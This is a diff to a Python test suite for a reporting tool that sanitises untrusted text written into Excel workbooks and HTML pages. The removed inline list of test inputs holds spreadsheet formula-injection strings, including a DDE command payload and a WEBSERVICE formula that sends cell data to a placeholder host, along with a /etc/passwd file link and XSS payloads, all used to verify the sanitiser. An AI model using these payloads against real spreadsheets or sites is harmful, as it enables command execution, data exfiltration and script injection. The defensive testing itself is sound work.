@@ -12,8 +12,10 @@ from xml.etree import ElementTree
 import openpyxl
 import pandas as pd
 import pytest
+import xlsxwriter
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from python_calamine import CalamineWorkbook
 
 import hoso.connectors.untrusted
 from hoso.connectors.reports import charts, marked
@@ -21,22 +23,16 @@ from hoso.connectors.reports.province_page import province_page, unit_counts
 from hoso.connectors.reports.subjects import subject
 from hoso.connectors.reports.unit_page import unit_page
 from hoso.connectors.templates.build import build
-from hoso.connectors.untrusted import CELL_LIMIT, clean, inside
+from hoso.connectors.untrusted import CELL_LIMIT, clean, inside, put_text, strings
 from hoso.validators.rules.context import units_frame
 
+from ...hostile import FORTY, HOSTILE, STAIN
 from .conftest import AS_OF, PERIOD, UNIT
 from .programs import convert
 
-HOSTILE = [
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","y")', "=WEBSERVICE(\"http://x.example/\"&A1)", "{=1+1}", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
-    "\n=1+1", "'=1+1", "%0A=1", "#REF!", "#N/A", "TRUE", "0012", "1E5", "12/03/1980", "037085012345678",
-    "http://x.example/", "mailto:a@x.example", "file:///etc/passwd", "internal:'Lỗi'!A1", "external:c:\\x.xlsx", "<script>alert(1)</script>", "</style><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>", "{{ 7*7 }}",
-    "{% raw %}", "]]>", "&amp;&lt;", "_x000D_ _x0041_", "a\x00b\x07c\x1b[31m", "a\ufffeb\uffff", "\u202egnp.exe", "\u2066a\u2069\u200f", "a" * 40_000, "😀" * 20_000,
-]  # fmt: skip
-
 
 def test_there_are_forty():
-    assert len(set(HOSTILE)) == 40
+    assert len(set(FORTY)) == 40 and set(FORTY) < set(HOSTILE)
 
 
 def frames(month, text):
@@ -88,7 +84,7 @@ def _elements(book):
 
 
 @settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(st.one_of(st.text(st.characters(categories=None), min_size=1, max_size=40), st.sampled_from(HOSTILE[:-2]), st.text("<>&\"']=_xE00\ue000\ue001{}/!-", min_size=1, max_size=30)))
+@given(st.one_of(st.text(st.characters(categories=None), min_size=1, max_size=40), st.sampled_from([text for text in HOSTILE if len(text) < 1_000]), st.text("<>&\"']=_xE00\ue000\ue001{}/!-", min_size=1, max_size=30)))
 def test_what_is_written_as_xml_stays_well_formed_whatever_the_text(month, text):
     """The marked workbook is XML of our own writing: with any text in every place it has the very elements that it has with a tame one."""
 
@@ -133,7 +129,7 @@ def test_in_pages(month, text):
     for hostile, tame in zip(pages(text), pages("b" * len(text)), strict=True):
         seen, expected = _Tags(hostile), _Tags(tame)
         assert seen.tags == expected.tags and seen.names == expected.names
-        assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", hostile)
+        assert STAIN.findall(hostile) == []
         if len(text) < 40 and not re.search(r"\d{9}", text):
             assert clean(text).strip() in "".join(seen.words)
 
@@ -158,7 +154,7 @@ def test_clean_gives_what_xml_may_hold_and_nothing_changes_twice(text):
     done = clean(text)
     assert clean(done) == done
     done.encode("utf-8")
-    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]", done)
+    assert not STAIN.search(done)
 
 
 @given(st.text(alphabet="aà😀", min_size=0, max_size=60), st.integers(10, 40))
@@ -166,6 +162,57 @@ def test_clean_cuts_by_the_units_of_the_format(text, limit):
     done = clean(text, limit)
     assert len(done.encode("utf-16-le")) // 2 <= limit
     assert done == text or (done.endswith("…") and text.startswith(done[:-1]))
+
+
+LIKE_WORKBOOKS = "_x0041F<r>/t&;=+-@'\r\n\t 1"
+WRITTEN = st.lists(
+    st.one_of(st.text(st.characters(categories=None), max_size=30), st.text(LIKE_WORKBOOKS, max_size=30), st.sampled_from(HOSTILE), st.builds(lambda text: f"<r>{text}</r>", st.text(LIKE_WORKBOOKS, max_size=10))),
+    min_size=1, max_size=8,
+)  # fmt: skip
+
+
+def written(texts) -> bytes:
+    """A workbook with *texts* in column A by ``put_text``, in column B as entries that ``strings`` wrote."""
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out, {"in_memory": True})
+    sheet = book.add_worksheet("S")
+    for n, text in enumerate(texts):
+        put_text(sheet, n, 0, text)
+        sheet.write_string(n, 1, f"\ue010{n}\ue010")
+    book.close()
+    again = io.BytesIO()
+    with zipfile.ZipFile(out) as source, zipfile.ZipFile(again, "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "xl/sharedStrings.xml":
+                for n, entry in enumerate(re.findall("<si>.*?</si>", strings(texts), re.DOTALL)):
+                    data = data.replace(f"<si><t>\ue010{n}\ue010</t></si>".encode(), entry.encode())
+            target.writestr(item, data)
+    return again.getvalue()
+
+
+@settings(deadline=None, max_examples=60)
+@given(WRITTEN)
+def test_two_readers_see_the_same_text_and_nothing_else(texts):
+    """Whatever the text: both ways of writing a workbook give ``clean(text)`` back, as a string, to openpyxl and to calamine."""
+    book = written(texts)
+    expected = [clean(text) for text in texts]
+    sheet = openpyxl.load_workbook(io.BytesIO(book))["S"]
+    lines = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_name("S").to_python(skip_empty_area=False)
+    lines += [["", ""]] * (len(texts) - len(lines))
+    for n, text in enumerate(expected):
+        for column in (0, 1):
+            cell = sheet.cell(n + 1, column + 1)
+            assert cell.hyperlink is None and (not text or cell.data_type == "s")
+            # openpyxl takes "x005F_" out wherever it stands.
+            assert (cell.value or "") == text.replace("x005F_", "")
+            assert lines[n][column] == text
+
+
+def test_the_longest_escapes_are_cut_and_shown_so():
+    text = "_x0041_" * 4_600
+    cell = openpyxl.load_workbook(io.BytesIO(written([text])))["S"]["A1"]
+    assert cell.data_type == "s" and cell.value.endswith("…") and text.startswith(cell.value[:-1]) and len(cell.value) > 2_000
 
 
 def test_vietnamese_is_left_alone():
